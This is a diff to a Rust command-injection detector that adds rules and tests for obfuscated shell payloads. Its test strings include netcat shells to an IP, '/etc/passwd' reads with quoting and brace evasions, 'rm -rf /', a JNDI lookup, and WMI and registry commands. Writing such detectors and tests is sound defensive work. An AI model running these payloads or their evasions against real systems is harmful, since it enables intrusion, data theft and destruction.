@@ -200,10 +200,19 @@ fn is_command(name: &str) -> bool {
 
 /// Commands that are also English words (`head`, `sleep`, `cat`): matched only when what
 /// follows looks like shell arguments (an option, a path, a number, a variable) or nothing.
-const WORD_COMMANDS: [&str; 22] = [
+const WORD_COMMANDS: [&str; 23] = [
     "cat", "tac", "head", "tail", "more", "less", "find", "host", "sleep", "touch", "kill", "env",
-    "dig", "ping", "which", "eval", "exec", "printf", "tee", "rm", "cp", "mv",
+    "dig", "ping", "which", "eval", "exec", "printf", "tee", "rm", "cp", "mv", "ll",
 ];
+
+/// Commands that are English words or names too (`date`, `column`, `sort`): matched only
+/// with an option after them (`;date --file x`, `| sort -u`).
+const OPTION_COMMANDS: [&str; 22] = [
+    "date", "column", "fold", "comm", "cut", "sort", "uniq", "wc", "diff", "od", "strings",
+    "paste", "file", "stat", "du", "df", "who", "uptime", "free", "echo", "ln", "mkdir",
+];
+
+static OPTION_COMMAND_SET: WordSet = WordSet::new(&OPTION_COMMANDS);
 
 /// Interpreters and tools that, invoked with these flags, run arbitrary code or open a shell.
 const INVOCATIONS: [&str; 12] = [
@@ -222,7 +231,7 @@ const INVOCATIONS: [&str; 12] = [
 ];
 
 /// Windows shell syntax.
-const WINDOWS: [&str; 16] = [
+const WINDOWS: [&str; 20] = [
     "cmd /c",
     "cmd.exe",
     "cmd /k",
@@ -239,6 +248,12 @@ const WINDOWS: [&str; 16] = [
     "wmic ",
     "for /f",
     "rundll32",
+    // PowerShell's WMI cmdlets by their aliases (`iwmi -class Win32_Process -name Create`).
+    "iwmi ",
+    "gwmi ",
+    "invoke-wmimethod",
+    // The registry editor with a switch (`regedit /e file key`, `regedit /s x.reg`).
+    "regedit /",
 ];
 
 /// The command-injection rules that match a decoded value.
@@ -255,16 +270,23 @@ pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
     if text.contains(['(', '`']) && has_substitution(text) {
         out.push(RCE_SUBSTITUTION);
     }
-    if command_positions(text)
-        .into_iter()
-        .any(|start| names_command(text.get(start..).unwrap_or_default()))
+    let positions = command_positions(text);
+    if positions
+        .iter()
+        .any(|&start| names_command(text.get(start..).unwrap_or_default()))
         || starts_with_command_and_option(text)
+        || runs_assigned_variable(text, &positions)
+        || (text.contains('.') && has_sqlite_dot_command(text, &positions))
+        || (text.contains("bin/") && runs_binary_path(text))
     {
         out.push(RCE_CHAINED_COMMAND);
     }
     // Every evasion needs one of these: a glob's `[`, `$` (`$IFS`, `$((`, `$[`, `$@`, `$9`),
-    // a brace expansion's `{`, or a quote or backslash inside a word.
-    if text.contains(['[', '$', '{', '\'', '"', '\\']) && has_shell_evasion(text, prechecks) {
+    // a brace expansion's `{`, a quote or backslash inside a word, or an empty substitution
+    // (two backticks, or `()` in `$()`, `<()`, `>()`).
+    if (!prechecks || text.contains(['[', '$', '{', '\'', '"', '\\', '`']) || text.contains("()"))
+        && has_shell_evasion(text, prechecks)
+    {
         out.push(RCE_SHELL_EVASION);
     }
     // Squeezing only turns blank runs into one blank: a piece without blanks found in the
@@ -282,7 +304,9 @@ pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
     }
     let squeezed = squeeze_spaces(text);
     if invocation_possible
-        && (INVOCATIONS.iter().any(|i| squeezed.contains(i)) || has_fork_bomb(&squeezed))
+        && (INVOCATIONS.iter().any(|i| squeezed.contains(i))
+            || has_fork_bomb(&squeezed)
+            || has_netcat_exec(&squeezed))
     {
         out.push(RCE_SHELL_INVOCATION);
     }
@@ -295,6 +319,190 @@ pub(crate) fn detect_with(value: &Lowered, prechecks: bool) -> Vec<Rule> {
         out.push(RCE_WINDOWS);
     }
     out
+}
+
+/// A variable run as a command after the value set it: `garb=adduse[r];$garb pizza`,
+/// `a=nc&&$a -nlvp 555` (prose does not assign a name and then put `$name` where a command
+/// starts).
+fn runs_assigned_variable(text: &str, positions: &[usize]) -> bool {
+    // The names assigned (`name=` where a word starts), at most a few, found in one pass.
+    const MOST: usize = 16;
+    let mut assigned: Vec<(usize, &str)> = Vec::new();
+    for (i, _) in text.match_indices('=') {
+        let before = text.get(..i).unwrap_or_default();
+        let name = before
+            .get(
+                before
+                    .trim_end_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                    .len()..,
+            )
+            .unwrap_or_default();
+        // A command or a path is assigned (`a=nc`, `p=/bin/sh`, `c='id'`), not a number.
+        let value = text.get(i + 1..).unwrap_or_default();
+        if name.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_')
+            && value.starts_with(|c: char| c.is_ascii_alphabetic() || matches!(c, '/' | '\'' | '"'))
+        {
+            assigned.push((i, name));
+            if assigned.len() == MOST {
+                break;
+            }
+        }
+    }
+    if assigned.is_empty() {
+        return false;
+    }
+    positions.iter().any(|&start| {
+        let rest = text
+            .get(start..)
+            .unwrap_or_default()
+            .trim_start_matches([' ', '\t']);
+        let word = rest.get(..word_end(rest)).unwrap_or_default();
+        if only_expansions(word) != Some(1) {
+            return false;
+        }
+        let name = word
+            .trim_start_matches('$')
+            .trim_start_matches('{')
+            .trim_end_matches('}');
+        assigned.iter().any(|&(at, n)| at < start && n == name)
+    })
+}
+
+/// SQLite shell dot commands where an injected line starts: `;\n.databases`,
+/// `1;.\"shell whoami` (`.shell` and `.system` run a command; the others read or write
+/// the database's files). A line break written as `\n` counts, since it is one to SQLite's
+/// input. A sentence does not start with `.tables` after a `;`.
+fn has_sqlite_dot_command(text: &str, positions: &[usize]) -> bool {
+    const DOT_COMMANDS: [&str; 19] = [
+        "shell",
+        "system",
+        "databases",
+        "tables",
+        "schema",
+        "fullschema",
+        "dump",
+        "import",
+        "output",
+        "once",
+        "load",
+        "open",
+        "read",
+        "backup",
+        "restore",
+        "clone",
+        "dbinfo",
+        "indexes",
+        "excel",
+    ];
+    positions
+        .iter()
+        .filter(|&&p| p > 0 && matches!(text.as_bytes().get(p - 1), Some(b';' | b'\n' | b'\r')))
+        .any(|&p| {
+            let mut rest = text.get(p..).unwrap_or_default();
+            loop {
+                let trimmed = rest
+                    .trim_start_matches([' ', '\t', '\n', '\r'])
+                    .trim_start_matches("\\n")
+                    .trim_start_matches("\\r");
+                if trimmed.len() == rest.len() {
+                    break;
+                }
+                rest = trimmed;
+            }
+            let Some(command) = rest.strip_prefix('.') else {
+                return false;
+            };
+            let command = command.trim_start_matches(['"', '\'', '\\']);
+            let name_len = command.len()
+                - command
+                    .trim_start_matches(|c: char| c.is_ascii_lowercase())
+                    .len();
+            let name = command.get(..name_len).unwrap_or_default();
+            DOT_COMMANDS.contains(&name)
+                && command.get(name_len..).is_none_or(|r| {
+                    r.is_empty() || r.starts_with([' ', '\t', '\n', '\r', '"', '\'', '\\', ';'])
+                })
+        })
+}
+
+/// A program run by its path in a `bin` directory: `/bin/cat`, `/usr/sbin/visudo`,
+/// `bin/chef` where a value starts. Only known commands: `/bin/ab` is left to
+/// [`detect_level2`].
+fn runs_binary_path(text: &str) -> bool {
+    text.match_indices("bin/").any(|(i, _)| {
+        let before = text.get(..i).unwrap_or_default();
+        let before = before.strip_suffix('s').unwrap_or(before);
+        if !(before.is_empty() || before.ends_with('/')) {
+            return false;
+        }
+        let rest = text.get(i + 4..).unwrap_or_default();
+        let end = rest
+            .find(|c: char| !(c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.')))
+            .unwrap_or(rest.len());
+        let name = rest.get(..end).unwrap_or_default();
+        let after = rest.get(end..).unwrap_or_default();
+        after.chars().next().is_none_or(|c| {
+            c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '\'' | '"' | ')' | '`')
+        }) && (is_command(name)
+            || WORD_COMMAND_SET.contains(name)
+            || OPTION_COMMAND_SET.contains(name))
+    })
+}
+
+/// Netcat handing a shell to the network with options between: `nc 10.0.0.1 6666 -e sh`,
+/// `ncat -lvp 4444 -e /bin/bash` (`nc -e` right after the name is in [`INVOCATIONS`]).
+fn has_netcat_exec(squeezed: &str) -> bool {
+    ["nc ", "ncat ", "netcat "].iter().any(|tool| {
+        squeezed.match_indices(tool).any(|(i, _)| {
+            let starts_word = squeezed
+                .get(..i)
+                .and_then(|b| b.chars().last())
+                .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_' || c == '-'));
+            // (A command line is short: no more than 256 bytes of it are read, which keeps a
+            // value of many `nc ` linear.)
+            let line = squeezed.get(i + tool.len()..).unwrap_or_default();
+            let mut cut = line.len().min(256);
+            while !line.is_char_boundary(cut) {
+                cut -= 1;
+            }
+            let line = line
+                .get(..cut)
+                .unwrap_or_default()
+                .split([';', '|', '&', '\n'])
+                .next()
+                .unwrap_or_default();
+            starts_word
+                && line.match_indices("-e ").any(|(e, _)| {
+                    let program = line
+                        .get(e + 3..)
+                        .unwrap_or_default()
+                        .split([' ', '\'', '"'])
+                        .next()
+                        .unwrap_or_default();
+                    let is_shell = |p: &str| {
+                        matches!(
+                            p,
+                            "sh" | "bash"
+                                | "zsh"
+                                | "ksh"
+                                | "dash"
+                                | "cmd"
+                                | "cmd.exe"
+                                | "powershell"
+                        )
+                    };
+                    // `c:\windows\system32\cmd.exe`, and `sh\n` with a line break written out.
+                    is_shell(program.rsplit(['/', '\\']).next().unwrap_or(program))
+                        || is_shell(
+                            program
+                                .split('\\')
+                                .next()
+                                .and_then(|p| p.rsplit('/').next())
+                                .unwrap_or(program),
+                        )
+                })
+        })
+    })
 }
 
 /// A piece of each [`WINDOWS`] phrase (the longest between blanks), and `if` and `for`,
@@ -329,30 +537,122 @@ fn command_positions(text: &str) -> Vec<usize> {
 /// Whether the word at the start of `rest` (after blanks, quotes, redirections) names a known
 /// command once de-obfuscated. A path prefix is allowed: `/bin/cat`, `/usr/bin/id`.
 fn names_command(rest: &str) -> bool {
-    let rest = rest.trim_start_matches(|c: char| {
+    names_command_at(rest, false)
+}
+
+/// [`names_command`]; `behind_expansion`: the word follows a variable at the command
+/// position (`$u wget x`, `;$a cat notes.txt`), where a word command needs no shell-like
+/// arguments to be one (a sentence does not put `$a` before its verb).
+fn names_command_at(rest: &str, behind_expansion: bool) -> bool {
+    let mut rest = rest.trim_start_matches(|c: char| {
         c.is_ascii_whitespace() || matches!(c, '&' | '|' | ';' | '(' | '{' | '!' | '<' | '>')
     });
-    let end = rest
-        .find(|c: char| {
-            c.is_ascii_whitespace()
-                || matches!(c, ';' | '|' | '&' | '<' | '>' | ')' | '}' | ',' | '`')
-        })
-        .unwrap_or(rest.len());
-    let word = without_quotes(rest.get(..end).unwrap_or_default());
+    // `. file`, the shell's `source`, runs what follows it: `;. rm -rf /`.
+    while let Some(sourced) = rest.strip_prefix(". ") {
+        rest = sourced.trim_start_matches([' ', '\t']);
+    }
+    let end = word_end(rest);
+    let raw_word = rest.get(..end).unwrap_or_default();
+    let args = rest.get(end..).unwrap_or_default();
+    // A word of variables only: `$c1$c2$c3` builds the command from pieces set before;
+    // `$a -nlvp 555` and `$u wget x` run an option or a command behind a variable.
+    if let Some(count) = only_expansions(raw_word) {
+        let after = args.trim_start_matches([' ', '\t']);
+        return count >= 2
+            || is_option(after)
+            || (!behind_expansion && names_command_at(after, true));
+    }
+    let word = without_quotes(raw_word);
     let word = word.trim_start_matches('$');
     let name = word.rsplit('/').next().unwrap_or(word);
     let name = name.split(['$', '{']).next().unwrap_or(name);
+    if command_with_arguments(name, args, behind_expansion) {
+        return true;
+    }
+    // The same word with its evasions undone (`n$u\c$u`, `${x}gcc7.4`) and a version
+    // glued to the name dropped (`gcc10.1`, `python3.8`).
+    let cleaned = shell_word(raw_word);
+    let cleaned_name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
+    (cleaned_name != name && command_with_arguments(cleaned_name, args, behind_expansion))
+        || without_version(cleaned_name) != cleaned_name
+            && is_command(without_version(cleaned_name))
+}
+
+/// Where the word at the start of `rest` ends: at a blank, a separator, a redirection, a
+/// closing `)` or `}` or a comma (of a brace expansion). A `${…}` inside the word is part of
+/// it (`${x}gcc`), and so is an empty substitution glued into it (`ping$()`, `pi<()ng`,
+/// two backticks), which [`shell_word`] drops.
+fn word_end(rest: &str) -> usize {
+    let bytes = rest.as_bytes();
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        let next = bytes.get(i + 1).copied();
+        if b == b'$' && next == Some(b'{') {
+            // (Looked for no further than a brace expansion's reach: linear over many `${`.)
+            let reach = bytes.get(i..).unwrap_or_default();
+            let reach = reach
+                .get(..reach.len().min(BRACE_REACH))
+                .unwrap_or_default();
+            if let Some(close) = reach.iter().position(|&c| c == b'}') {
+                i += close + 1;
+                continue;
+            }
+        }
+        if b == b'`' && next == Some(b'`') {
+            i += 2;
+            continue;
+        }
+        if matches!(b, b'$' | b'<' | b'>') && next == Some(b'(') && bytes.get(i + 2) == Some(&b')')
+        {
+            i += 3;
+            continue;
+        }
+        if b.is_ascii_whitespace()
+            || matches!(
+                b,
+                b';' | b'|' | b'&' | b'<' | b'>' | b')' | b'}' | b',' | b'`'
+            )
+        {
+            return i;
+        }
+        i += 1;
+    }
+    bytes.len()
+}
+
+/// An option where a command's arguments start: `-a`, `-nlvp`, `--file` (`-` alone, `-5`
+/// and a dash before a word of prose, `-rated`, are not).
+fn is_option(args: &str) -> bool {
+    let word = args
+        .split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&' | '='))
+        .next()
+        .unwrap_or_default();
+    if let Some(long) = word.strip_prefix("--") {
+        return long.starts_with(|c: char| c.is_ascii_alphabetic());
+    }
+    word.strip_prefix('-').is_some_and(|short| {
+        (1..=4).contains(&short.len()) && short.bytes().all(|b| b.is_ascii_alphabetic())
+    })
+}
+
+/// Whether `name` with `args` after it is a command: a known command, or a word command
+/// whose arguments are a shell's.
+fn command_with_arguments(name: &str, args: &str, behind_expansion: bool) -> bool {
     if name.is_empty() {
         return false;
     }
     if is_command(name) {
         return true;
     }
-    let args = rest.get(end..).unwrap_or_default();
-    // `alias x=…` defines a command to run later.
+    // `alias [-p] [+m] x=…` defines a command to run later.
     if name == "alias" {
-        let arg = args.trim_start();
-        return arg.starts_with("-p") || arg.split(' ').next().is_some_and(|a| a.contains('='));
+        let mut words = args.split_whitespace();
+        let first = words.next().unwrap_or_default();
+        return first.starts_with("-p")
+            || std::iter::once(first)
+                .chain(words)
+                .find(|w| !w.starts_with(['-', '+']))
+                .is_some_and(|a| a.contains('='));
     }
     // cmd.exe's `cat`, and an instruction word ("type 'yes' here"): only reading a file named
     // by a batch variable or a drive (`type %SystemDrive%\boot.ini`, `type c:\x`).
@@ -362,7 +662,111 @@ fn names_command(rest: &str) -> bool {
             || (arg.first().is_some_and(u8::is_ascii_alphabetic)
                 && arg.get(1..3) == Some(b":\\".as_slice()));
     }
-    WORD_COMMAND_SET.contains(name) && shell_like_arguments(args)
+    if name == "cd" {
+        return changes_directory(args);
+    }
+    if OPTION_COMMAND_SET.contains(name) {
+        return is_option(args.trim_start_matches([' ', '\t']));
+    }
+    WORD_COMMAND_SET.contains(name) && (behind_expansion || shell_like_arguments(args))
+}
+
+/// `cd`'s arguments in a command line: `..`, `~`, `-`, or a path and then the end of the
+/// value or the next command (`cd /;cd etc`, `cd /tmp && …`). A disc ("CD /DVD combo",
+/// "CD 2") does not go on with a separator right after a path.
+fn changes_directory(args: &str) -> bool {
+    let arg = args.trim_start_matches([' ', '\t']);
+    let path_end = arg
+        .find(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
+        .unwrap_or(arg.len());
+    let path = arg.get(..path_end).unwrap_or_default();
+    let after = arg.get(path_end..).unwrap_or_default();
+    let next_command = after.is_empty() || after.starts_with([';', '|', '&', '\n', '\r']);
+    matches!(path, ".." | "~" | "-" | "../" | "~/")
+        || (path.starts_with(['/', '$', '~']) && next_command)
+}
+
+/// `word` as a shell runs it when its variables are unset: quotes and backslashes removed,
+/// `${…}` and one-character expansions (`$u`, `$@`, `$*`, `$_`, `$9`, `$$`) dropped, and
+/// empty substitutions (two backticks, `$()`, `<()`, `>()`) dropped: `n$u\c$u` is `nc`,
+/// `ping$()` is `ping`, `c$*at` is `cat`. (A real shell reads `$uat` as one variable; an
+/// evasion puts the `$x` where the next byte ends the name, and the filters it evades drop
+/// `$` and one byte, so that reading is the one to undo.) Borrowed when there is nothing to
+/// remove, as in most words.
+fn shell_word(word: &str) -> Cow<'_, str> {
+    if !word.contains(['\'', '"', '\\', '$', '`', '(']) {
+        return Cow::Borrowed(word);
+    }
+    let bytes = word.as_bytes();
+    let mut out = Vec::with_capacity(bytes.len());
+    let mut i = 0;
+    while let Some(&b) = bytes.get(i) {
+        let next = bytes.get(i + 1).copied();
+        let after = bytes.get(i + 2).copied();
+        match b {
+            b'\'' | b'"' | b'\\' => i += 1,
+            b'`' if next == Some(b'`') => i += 2,
+            b'$' | b'<' | b'>' if next == Some(b'(') && after == Some(b')') => i += 3,
+            b'$' if next == Some(b'{') => {
+                let close = bytes
+                    .get(i + 2..)
+                    .and_then(|r| r.iter().position(|&c| c == b'}'));
+                i = close.map_or(bytes.len(), |c| i + 3 + c);
+            }
+            b'$' if next.is_some_and(|c| {
+                c.is_ascii_alphanumeric()
+                    || matches!(c, b'@' | b'*' | b'#' | b'?' | b'-' | b'$' | b'!' | b'_')
+            }) =>
+            {
+                i += 2
+            }
+            _ => {
+                out.push(b);
+                i += 1;
+            }
+        }
+    }
+    // Only ASCII bytes were removed, whole: the rest is still UTF-8.
+    Cow::Owned(String::from_utf8(out).unwrap_or_default())
+}
+
+/// How many expansions `word` is made of, if it is nothing else (`$a`, `${u}`,
+/// `$c1$c2$c3`), read as the shell reads names (`$garb` is one variable).
+fn only_expansions(word: &str) -> Option<usize> {
+    let mut rest = word;
+    let mut count = 0;
+    while let Some(after) = rest.strip_prefix('$') {
+        rest = if let Some(inner) = after.strip_prefix('{') {
+            inner.split_once('}')?.1
+        } else {
+            let name = after.len()
+                - after
+                    .trim_start_matches(|c: char| c.is_ascii_alphanumeric() || c == '_')
+                    .len();
+            // A name, not a positional parameter or a price (`$5`).
+            if name == 0 || after.starts_with(|c: char| c.is_ascii_digit()) {
+                return None;
+            }
+            after.get(name..)?
+        };
+        count += 1;
+    }
+    (rest.is_empty() && count > 0).then_some(count)
+}
+
+/// `gcc7.4`, `python3.11`: a command name with a version glued on, without it.
+fn without_version(name: &str) -> &str {
+    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
+    if base.len() < name.len()
+        && base.len() >= 2
+        && name
+            .get(base.len()..)
+            .is_some_and(|v| v.starts_with(|c: char| c.is_ascii_digit()))
+    {
+        base
+    } else {
+        name
+    }
 }
 
 /// `word` without the quotes and backslashes a shell removes (`c'a't` is `cat`); borrowed when
@@ -451,10 +855,25 @@ fn starts_with_command_and_option(text: &str) -> bool {
     if first == "alias" && names_command(trimmed) {
         return true;
     }
+    // `${SHELL} -c "…"`, `$a -nlvp 555`: a program named by a variable, run with an option.
+    if only_expansions(first).is_some()
+        && trimmed
+            .get(first.len()..)
+            .is_some_and(|r| r.starts_with([' ', '\t']) && is_option(r.trim_start()))
+    {
+        return true;
+    }
     let Some((word, rest)) = trimmed.split_once([' ', '\t']) else {
         return false;
     };
+    // `"ll" /var/www/`, `uname$u -a`: the word as the shell runs it.
+    let word = shell_word(word);
+    let word = word.as_ref();
     let rest = rest.trim_start();
+    // `cd /;cd etc;…`: a directory change that a command follows.
+    if word == "cd" && changes_directory(rest) {
+        return true;
+    }
     let option = rest.starts_with('-')
         && rest
             .chars()
@@ -543,43 +962,72 @@ fn has_shell_evasion(text: &str, prechecks: bool) -> bool {
             || text.contains("$ifs")
             || text.contains("${ifs")
             || text.contains("$'\\x")
-            || text.contains("${jndi:"))
+            || text.contains("${jndi:")
+            // `${:-j}`, `${::-x}`: an expansion without a name, only a default (Log4Shell
+            // lookups spelled so a filter looking for `jndi` misses them; a shell refuses it).
+            || text.contains("${:"))
     {
         return true;
     }
-    let brace = text.match_indices('{').any(|(i, _)| {
-        let inner = text
-            .get(i + 1..)
-            .and_then(|r| r.split('}').next())
-            .unwrap_or_default();
-        inner.contains(',') && names_command(&inner.replacen(',', " ", 1))
-    });
-    if brace {
+    if brace_expands_to_command(text) {
         return true;
     }
-    // A command word glued together from pieces: c'a't, c\at, ca$@t, w"h"oami.
+    // A command word glued together from pieces: c'a't, c\at, ca$@t, w"h"oami, n$u\c$u,
+    // uname${x}, ping``, pi<()ng.
     text.split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
         .any(|word| {
-            let obfuscated =
-                word.contains(['\'', '"', '\\']) || word.contains("$@") || word.contains("$9");
+            let obfuscated = word.contains(['\'', '"', '\\', '$', '`']) || word.contains("()");
             // (Most words are not: they are not copied.)
             if !obfuscated {
                 return false;
             }
-            // (Each step copies only if it has something to remove: most words have no `$`.)
-            let mut cleaned = Cow::Borrowed(word);
-            for splitter in ["$@", "$9"] {
-                if cleaned.contains(splitter) {
-                    cleaned = Cow::Owned(cleaned.replace(splitter, ""));
-                }
-            }
-            let cleaned = without_quotes(&cleaned).into_owned();
+            let cleaned = shell_word(word);
             let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
-            obfuscated
-                && cleaned != word
+            cleaned != word
                 && name.len() > 1
                 && (COMMAND_SET.contains(name) || WORD_COMMAND_SET.contains(name))
         })
+}
+
+/// How far after a `{` its `}` is looked for.
+const BRACE_REACH: usize = 256;
+
+/// A brace expansion that makes a command line: `{cat,/etc/passwd}`, `{,cd,/etc,}`,
+/// `{n$u\c$u,-nlvp,777}` (the words between commas, empty ones dropped), or that spells a
+/// command inside a word: `c{a,oun}t` is `cat count`.
+fn brace_expands_to_command(text: &str) -> bool {
+    text.match_indices('{').any(|(i, _)| {
+        // A brace expansion is short: looking no further than [`BRACE_REACH`] for its `}`
+        // keeps a value of many `{` linear.
+        let Some(inner) = text.get(i + 1..).and_then(|r| {
+            let reach = r.as_bytes().get(..r.len().min(BRACE_REACH));
+            let close = reach.and_then(|b| b.iter().position(|&c| c == b'}'));
+            close.and_then(|e| r.get(..e))
+        }) else {
+            return false;
+        };
+        if !inner.contains(',') {
+            return false;
+        }
+        let words: Vec<&str> = inner.split(',').filter(|w| !w.is_empty()).collect();
+        if names_command(&words.join(" ")) {
+            return true;
+        }
+        let is_word = |c: char| c.is_ascii_alphanumeric() || c == '_';
+        let before = text.get(..i).unwrap_or_default();
+        let prefix = before
+            .get(before.trim_end_matches(is_word).len()..)
+            .unwrap_or_default();
+        let after = text.get(i + inner.len() + 2..).unwrap_or_default();
+        let suffix = after
+            .get(..after.len() - after.trim_start_matches(is_word).len())
+            .unwrap_or_default();
+        (!prefix.is_empty() || !suffix.is_empty())
+            && inner.split(',').any(|alt| {
+                let word = format!("{prefix}{alt}{suffix}");
+                COMMAND_SET.contains(&word) || WORD_COMMAND_SET.contains(&word)
+            })
+    })
 }
 
 /// A bracket glob inside an absolute path (`/etc/[p]asswd`, `/usr/[a-z]in/bash`,
@@ -863,6 +1311,74 @@ mod tests {
             "it's here",
             "ps: see you",
             "lunch; head to the office",
+        ] {
+            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
+        }
+    }
+
+    #[test]
+    fn evasions_undone_in_a_command_word() {
+        for (v, id) in [
+            // One-character and braced expansions, empty substitutions, escapes.
+            ("x;c$*at /et$*c/pas$*swd", "rce-001"),
+            ("x;c$-at /etc/hosts", "rce-001"),
+            ("uname$u -a", "rce-003"),
+            ("{n$u\\c$u,-nlvp,777}", "rce-003"),
+            ("ping`` 127.0.0.1", "rce-003"),
+            ("ping$() 127.0.0.1", "rce-003"),
+            ("pi<()ng 127.0.0.1", "rce-003"),
+            ("c{a,oun}t /etc/passwd", "rce-003"),
+            ("{,cd,/etc,}", "rce-003"),
+            ("${:1337:-x$}{jndi:ldap://x/y}", "rce-003"),
+            // Variables at a command position.
+            ("x;$c1$c2$c3 /etc/passwd", "rce-001"),
+            ("a=nc&&$a -nlvp 555", "rce-001"),
+            ("${SHELL} -c \"echo hi\"", "rce-001"),
+            ("|$u wget test", "rce-001"),
+            ("ip=;$a cat test.txt", "rce-001"),
+            ("garb=adduse[r];$garb pizza", "rce-001"),
+            // Versions, sourcing, option-only commands, directory changes.
+            ("echo | gcc7.4", "rce-001"),
+            (";gcc10.1<<<void main(){}", "rce-001"),
+            ("x | ${x}gcc7.4", "rce-001"),
+            ("ifconfig;. rm -rf /", "rce-001"),
+            (";date --file secrets.txt", "rce-001"),
+            ("x | sort -u", "rce-001"),
+            ("cd /;cd etc;column passwd", "rce-001"),
+            ("ll /var/www/", "rce-001"),
+            ("\"ll\" /var/www/", "rce-001"),
+            ("alias %2Bm a=b", "rce-001"),
+            // SQLite's shell, binaries by path, netcat, WMI and the registry.
+            (";\\n.databases", "rce-001"),
+            ("1;.\\\"shell whoami\n", "rce-001"),
+            ("bin/visudo", "rce-001"),
+            ("/usr/local/bin/chef-client", "rce-001"),
+            ("\"; . shell nc 10.10.10.1 6666 -e sh", "rce-004"),
+            (";iwmi -class Win32_process -name Create", "rce-005"),
+            ("; regedit /E c:\\x.reg HKEY_CURRENT_USER\\Key", "rce-005"),
+        ] {
+            assert!(ids(v).contains(&id), "{v}: {:?}", ids(v));
+        }
+        for v in [
+            "costs $5 -ish, or $10",
+            "price; $5 off today",
+            "US$5",
+            "Vinyl & CD /DVD combo",
+            "CD 1; CD 2",
+            "CD / DVD",
+            "lunch; date with Anna",
+            "free shipping; top-rated; sort by price",
+            "we'll see",
+            "{a,b} and c{x}d",
+            "{name}, {title}",
+            "recycle bin/cat litter",
+            "python3.11 is out",
+            "the nc -- network",
+            "end of story. tables are set",
+            "hello;.NET developers",
+            "x=5; $x is five",
+            "`a` and `b`",
+            "f() and g()",
         ] {
             assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
         }
